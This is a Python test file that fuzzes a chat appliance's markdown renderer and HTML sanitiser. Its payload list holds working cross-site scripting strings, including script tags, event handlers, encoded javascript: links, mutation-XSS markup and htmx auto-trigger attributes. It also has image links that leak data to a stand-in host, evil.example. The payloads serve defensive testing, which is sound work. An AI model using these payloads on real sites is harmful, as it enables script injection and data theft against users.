"""What a hostile model may write: nothing but our own tags, attributes and schemes may come out."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from doses import examples
from hostile_markdown import MARKDOWN
from hostile_markup import MARKUP
from hypothesis import given, settings
from hypothesis import strategies as st

from appliance.rendering.markdown import render_markdown
from appliance.rendering.sanitising import CLASSES, TAGS, sanitise

ALLOWED = {
    "a": {"href", "title", "rel", "target"},
    "ol": {"start"},
    "button": {"type", "class"},
    **{tag: {"class"} for tag in CLASSES if tag != "button"},
}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=data:text/html,x></object><embed src=//evil.example>",
    "<link rel=prefetch href=https://evil.example><base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input autofocus onfocus=alert(1)></form>",
    '<div hx-get="/conversations" hx-trigger="load">x</div>',
    '<div data-hx-delete="/conversations/1" data-hx-trigger="load">x</div>',
    '<div hx-sse:connect="https://evil.example" sse-connect="https://evil.example">x</div>',
    '<hx-partial hx-target="body">x</hx-partial>',
    "<template><script>alert(1)</script></template>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A&#x61;vascript&colon;alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](\0javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a]( javascript:alert(1) 'title')",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1)) [b](file:///etc/passwd) [c](blob:x) [d](ftp://evil.example/)",
    "[a](//evil.example/x) [b](/conversations/1) [c](#id) [d](?x) [e](\\\\evil.example)",
    "[a](https:evil.example) [b](https:/evil.example) [c](https://)",
    "<javascript:alert(1)> <data:text/html,x>",
    "[a][1]\n\n[1]: javascript:alert(1)",
    "![a][1]\n\n[1]: https://evil.example/leak?words",
    "![x](https://evil.example/leak.png?q=secret)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '[a](https://e.example/"onmouseover="alert(1))',
    "[a](https://e.example 'x\" onmouseover=\"alert(1)')",
    '[a](https://e.example "</a><script>alert(1)</script>")',
    "[`</a><img src=x onerror=alert(1)>`](https://e.example)",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```python" class="copy-code" id="x\nx\n```',
    "~~~&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\nx\n~~~",
    '# x {#composer .copy-code onclick="alert(1)"}',
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    '| a |\n|:-" onclick="alert(1)|\n| b |',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script\\>alert(1)\\</script\\>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<a href='https://e.example' id=composer class=copy-code name=cookie>x</a>",
    "</div></article><div id=composer>",
    "<!--<img src=x onerror=alert(1)>--><![CDATA[<img src=x>]]><?php x ?>",
    "https://e.example/<script>alert(1)</script> http://e.example/'onclick='x",
    '<https://e.example/"><img/src=x/onerror=alert(1)>>',
    "mailto:x@e.example?body=<script> [m](mailto:x@e.example'><b>)",
    "- <details ontoggle=alert(1) open>\n> <video><source onerror=alert(1)>",
    "javascript:alert(1) //evil.example www.evil.example",
]


class Inspector(HTMLParser):
    """Fails on any tag, attribute, class or scheme that is not on the lists."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        for name, value in attrs:
            assert name in ALLOWED.get(tag, set()), (tag, name)
            if name == "class":
                assert set((value or "").split()) <= CLASSES[tag]
            if name == "href":
                parts = urlsplit(value or "")
                assert parts.scheme in ("http", "https", "mailto")
                assert parts.hostname or parts.scheme == "mailto"
            if name == "rel":
                assert value == "noopener noreferrer nofollow"
        if tag == "a":
            assert {"rel", "target"} <= {name for name, _ in attrs}

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment came through")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError("a declaration came through")

    def handle_pi(self, data: str) -> None:
        raise AssertionError("a processing instruction came through")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError("a declaration came through")


def inspect(html: str) -> None:
    parser = Inspector()
    parser.feed(html)
    parser.close()


def test_the_corpus_of_the_browser_brings_out_nothing_else_either() -> None:
    for case in (*MARKUP, *MARKDOWN):
        inspect(render_markdown(case))
        inspect(render_markdown(f"> - **{case}**"))
        inspect(sanitise(case))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "frame", ["{}", "> - {}", "**{}**", "text {} text", "[{}](https://e.example)"]
)
def test_nothing_but_our_own_tags_comes_out(payload: str, frame: str) -> None:
    inspect(render_markdown(frame.format(payload)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitiser_alone_would_hold(payload: str) -> None:
    inspect(sanitise(payload))


@given(
    st.lists(
        st.sampled_from(PAYLOADS).flatmap(lambda p: st.integers(0, len(p)).map(lambda n: p[:n]))
    )
)
@settings(max_examples=examples(80, 200), deadline=None)
def test_pieces_of_payloads_together_are_no_way_out(pieces: list[str]) -> None:
    inspect(render_markdown("".join(pieces)))
